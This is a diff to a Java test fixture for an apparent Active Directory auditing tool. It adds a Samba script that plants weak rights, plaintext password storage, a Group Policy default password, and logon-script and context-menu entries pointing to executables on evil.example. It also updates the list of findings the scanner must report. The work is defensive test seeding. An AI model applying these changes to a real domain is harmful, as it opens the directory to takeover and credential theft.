@@ -152,6 +152,73 @@ final class DirectoryPlants {
             > "$policy/USER/Documents & Settings/fdeploy.ini"
         """;
 
+    /** What {@link #SCRIPT} does not plant: rights over places that lead to the domain, settings, and a password that a policy hands out. */
+    static final String MORE = """
+        set -eu
+        D=DC=mairie,DC=example; C=CN=Configuration,$D; S=/var/lib/samba/private/sam.ldb; as='-U Administrator%Vigie-2026-x'
+        sid() { samba-tool user show $1 --attributes=objectSid | awk '/^objectSid/{print $2}'; }
+        who=$(sid tiers)
+        samba-tool dsacl set --objectdn=$D --sddl='(A;;RP;;;AN)'
+        samba-tool dsacl set --objectdn="CN=Directory Service,CN=Windows NT,CN=Services,$C" --sddl="(A;;WP;;;$who)"
+        for place in "CN=Password Settings Container,CN=System,$D" "CN=SOM,CN=WMIPolicy,CN=System,$D" "CN=autre.example,CN=System,$D" \
+            "CN=Master Root Keys,CN=Group Key Distribution Service,CN=Services,$C" "CN=Partitions,$C" "CN=DisplaySpecifiers,$C" \
+            "CN=MicrosoftDNS,DC=DomainDnsZones,$D" "CN=inconnu,CN=Users,$D" "CN=gmsa,CN=Managed Service Accounts,$D"; do
+            samba-tool dsacl set --objectdn="$place" --sddl="(A;;GA;;;$who)"
+        done
+        samba-tool spn add HTTP/ancien.mairie.example premier
+        samba-tool group addmembers 'Remote Desktop Users' tiers
+        samba-tool domain passwordsettings pso create Faible 1 --min-pwd-length=0 --store-plaintext=on
+        samba-tool domain passwordsettings pso apply Faible tiers
+        samba-tool domain passwordsettings set --min-pwd-length=0 --store-plaintext=on
+        samba-tool dns add dc1.mairie.example mairie.example '*' A 192.0.2.9 $as
+        samba-tool computer create PC77 -H ldap://dc1.mairie.example -U 'tiers%Vigie-2026-tiers'
+        samba-tool gpo setlink $D '{31B2F340-016D-11D2-945F-00C04FB984F9}' --disable $as
+        session=$(samba-tool gpo create Session $as | grep -o '{[^}]*}')
+        cat > /session.json <<'J'
+        [{"keyname": "Software\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Winlogon", "valuename": "DefaultPassword",
+          "class": "MACHINE", "type": "REG_SZ", "data": "Clair-Deux-2"}]
+        J
+        samba-tool gpo load "$session" --content=/session.json $as
+        cat > /more.ldif <<L
+        dn: CN=premier,CN=Users,$D
+        changetype: modify
+        replace: scriptPath
+        scriptPath: \\\\\\\\evil.example\\pub\\debut.bat
+        -
+
+        dn: CN=tiers,CN=Users,$D
+        changetype: modify
+        replace: unixUserPassword
+        unixUserPassword: Clair-Deux-2
+        -
+
+        dn: CN=inconnu,CN=Users,$D
+        changetype: modify
+        replace: userAccountControl
+        userAccountControl: 4194816
+        -
+
+        dn: CN=krbtgt,CN=Users,$D
+        changetype: modify
+        replace: userAccountControl
+        userAccountControl: 2097666
+        -
+
+        dn: CN=Pre-Windows 2000 Compatible Access,CN=Builtin,$D
+        changetype: modify
+        add: member
+        member: <SID=S-1-5-7>
+        -
+
+        dn: CN=user-Display,CN=409,CN=DisplaySpecifiers,$C
+        changetype: modify
+        add: adminContextMenu
+        adminContextMenu: 9,Outil,\\\\\\\\evil.example\\pub\\evil.exe
+        -
+        L
+        ldbmodify -H $S /more.ldif
+        """;
+
     /** One change that is made while the directory is being watched. */
     static final String AN_HOUR_LATER = """
         set -eu
@@ -173,45 +240,93 @@ final class DirectoryPlants {
      * What has to be told.
      *
      * @param source a part of the object's or file's name, from its beginning
-     * @param text a part of the item's name or value
+     * @param text parts of the item's name or value, one after another, with … for what lies between
      */
     private record Told(String location, String source, String text) {
+        private boolean isIn(String told) {
+            int at = 0;
+            for (String part : text.split("…", -1)) {
+                int found = told.indexOf(part, at);
+                if (found < 0) {
+                    return false;
+                }
+                at = found + part.length();
+            }
+            return true;
+        }
+
         boolean isIn(Map<String, String> item) {
             return location.equals(item.get("location"))
                     && item.getOrDefault("source", "").startsWith(source)
-                    && (item.getOrDefault("name", "") + " " + item.getOrDefault("value", "")).contains(text);
+                    && isIn(item.getOrDefault("name", "") + " " + item.getOrDefault("value", ""));
         }
     }
 
+    private static final String POLICIES_OF_CONTROLLERS = "{6AC1786C-016F-11D2-945F-00C04FB984F9}";
+    private static final String HOLDS = "of an account that holds the domain";
+
     private static final List<Told> TOLD = List.of(
-            new Told("ad.rights.domain", "{domain}", "(inconnu): extended-right DS-Replication-Get-Changes-All"),
-            new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "(inconnu): full-control"),
-            new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "(tiers): owner"),
-            new Told("ad.rights.protected", "CN=Domain Admins" + USERS, "(premier): owner"),
-            new Told("ad.rights.unit", "OU=Postes,{domain}", "(tiers): write-property msDS-KeyCredentialLink"),
-            new Told("ad.rights.policy", "CN=" + FIRST + ",CN=Policies,CN=System,{domain}", "(inconnu): write-dacl"),
-            new Told("ad.rights.certificate", KEYS, "(tiers): full-control"),
+            new Told("ad.rights.domain", "{domain}", "(S-1-5-7): read over the domain"),
+            new Told("ad.rights.domain", "CN=Directory Service,", "tiers (…): write-property over"),
+            new Told("ad.rights.domain", "CN=Password Settings Container,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=Master Root Keys,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=Partitions,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=DisplaySpecifiers,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=SOM,CN=WMIPolicy,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=autre.example,CN=System,", "tiers (…): full-control over"),
+            new Told("ad.rights.domain", "CN=MicrosoftDNS,DC=DomainDnsZones,", "tiers (…): full-control over"),
+            new Told("ad.rights.protected", "CN=inconnu" + USERS, "tiers (…): full-control over inconnu"),
+            new Told("ad.rights.protected", "CN=gmsa,CN=Managed", "tiers (…): full-control over gmsa"),
+            new Told("ad.policy.link", "OU=Domain Controllers,{domain}", POLICIES_OF_CONTROLLERS + " gone"),
+            new Told("ad.policy.link", "{domain}", FIRST + "…switched off; each domain has it by itself"),
+            new Told("ad.account.weak", "CN=premier" + USERS, "service HTTP/ancien…" + HOLDS),
+            new Told("ad.account.weak", "CN=inconnu" + USERS, "no-preauthentication…" + HOLDS),
+            new Told("ad.account.weak", "CN=krbtgt" + USERS, "des-only…" + HOLDS),
+            new Told("ad.account.weak", "CN=premier" + USERS, "logon-script…evil.example…" + HOLDS),
+            new Told("ad.account.weak", "CN=tiers" + USERS, "unix-password"),
+            new Told("ad.account.weak", "CN=PC77" + COMPUTERS, "PC77$ was made by tiers ("),
+            new Told("ad.group.privileged", "CN=Pre-Windows 2000 Compatible Access,", "(S-1-5-7) in Pre-Windows 2000"),
+            new Told("ad.group.privileged", "CN=Remote Desktop Users,", "tiers (…) in Remote Desktop Users"),
+            new Told("ad.settings", "{domain}", "at least 0 characters"),
+            new Told("ad.settings", "CN=tiers" + USERS, "passwords Faible"),
+            new Told("ad.settings", "CN=user-Display,CN=409,", "menu adminContextMenu…evil.exe"),
+            new Told("ad.settings", "DC=*,DC=mairie.example,", "stands for each name"),
+            new Told("ad.trust", "CN=autre.example,CN=System,{domain}", "SID filtering is off"),
+            new Told(
+                    "ad.sysvol.registry",
+                    "SYSVOL\\Policies\\{",
+                    "DefaultPassword with a password that anybody can read"),
+            new Told("ad.rights.domain", "{domain}", "inconnu (…): extended-right DS-Replication-Get-Changes-All"),
+            new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "inconnu (…): full-control"),
+            new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "tiers (…): owner"),
+            new Told("ad.rights.protected", "CN=Domain Admins" + USERS, "premier (…): owner"),
+            new Told("ad.rights.unit", "OU=Postes,{domain}", "tiers (…): write-property msDS-KeyCredentialLink"),
+            new Told("ad.rights.policy", "CN=" + FIRST + ",CN=Policies,CN=System,{domain}", "inconnu (…): write-dacl"),
+            new Told("ad.rights.certificate", KEYS, "tiers (…): full-control"),
             new Told("ad.certificate-template", "CN=Accueil,CN=Certificate Templates," + KEYS, "ESC1"),
             new Told("ad.certification-authority", "CN=AUTORITE,CN=Enrollment Services," + KEYS, "offers Accueil"),
             new Told("ad.certification-authority", "CN=NTAuthCertificates," + KEYS, "NTAuth "),
             new Told("ad.issuance-policy", "CN=400.5EA1C1D1,CN=OID," + KEYS, "is in CN=Enterprise Admins"),
             new Told("ad.explicit-mapping", "CN=agent-accueil" + USERS, "X509:<S>CN=agent-accueil"),
-            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "(Depannage) in Domain Admins"),
-            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "(inconnu) in Domain Admins through Depannage"),
-            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "(cache) in Domain Admins"),
+            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "Depannage (…) in Domain Admins"),
+            new Told(
+                    "ad.group.privileged",
+                    "CN=Domain Admins" + USERS,
+                    "inconnu (…) in Domain Admins through Depannage"),
+            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "cache (…) in Domain Admins"),
             new Told(
                     "ad.group.privileged",
                     "CN=Domain Admins" + USERS,
                     "CN=secret,CN=Users,{domain} in Domain Admins, which the computer may not read"),
-            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "(premier) in Domain Admins"),
-            new Told("ad.group.privileged", "CN=DnsAdmins" + USERS, "(tiers) in DnsAdmins"),
-            new Told("ad.group.privileged", "CN=Backup Operators,CN=Builtin,{domain}", "(tiers) in Backup Operators"),
+            new Told("ad.group.privileged", "CN=Domain Admins" + USERS, "premier (…) in Domain Admins"),
+            new Told("ad.group.privileged", "CN=DnsAdmins" + USERS, "tiers (…) in DnsAdmins"),
+            new Told("ad.group.privileged", "CN=Backup Operators,CN=Builtin,{domain}", "tiers (…) in Backup Operators"),
             new Told("ad.group.privileged", "CN=orphelin" + USERS, "adminCount"),
             new Told("ad.key-credential", "CN=Administrator" + USERS, ""),
             new Told("ad.delegation", "CN=SRV1" + COMPUTERS, "unconstrained"),
             new Told("ad.delegation", "CN=libre" + USERS, "unconstrained"),
             new Told("ad.delegation", "CN=service-impression" + USERS, "cifs/dc1.mairie.example"),
-            new Told("ad.delegation", "CN=PC1" + COMPUTERS, "(SRV1$)"),
+            new Told("ad.delegation", "CN=PC1" + COMPUTERS, "SRV1$ ("),
             new Told("ad.account.weak", "CN=agent-accueil" + USERS, "no-preauthentication"),
             new Told("ad.account.weak", "CN=sans-secret" + USERS, "no-password-needed"),
             new Told("ad.account.weak", "CN=service-impression" + USERS, "service HTTP/intranet.mairie.example"),
@@ -221,7 +336,7 @@ final class DirectoryPlants {
             new Told(
                     "ad.account.managed",
                     "CN=gmsa,CN=Managed Service Accounts,{domain}",
-                    "(tiers) may read its password"),
+                    "tiers (…) may read its password"),
             new Told("ad.controller", "CN=SRV9" + COMPUTERS, "with a server object that replicates"),
             new Told("ad.password-age", "CN=krbtgt" + USERS, "old krbtgt"),
             new Told("ad.password-age", "CN=SRV1" + COMPUTERS, "old machine"),
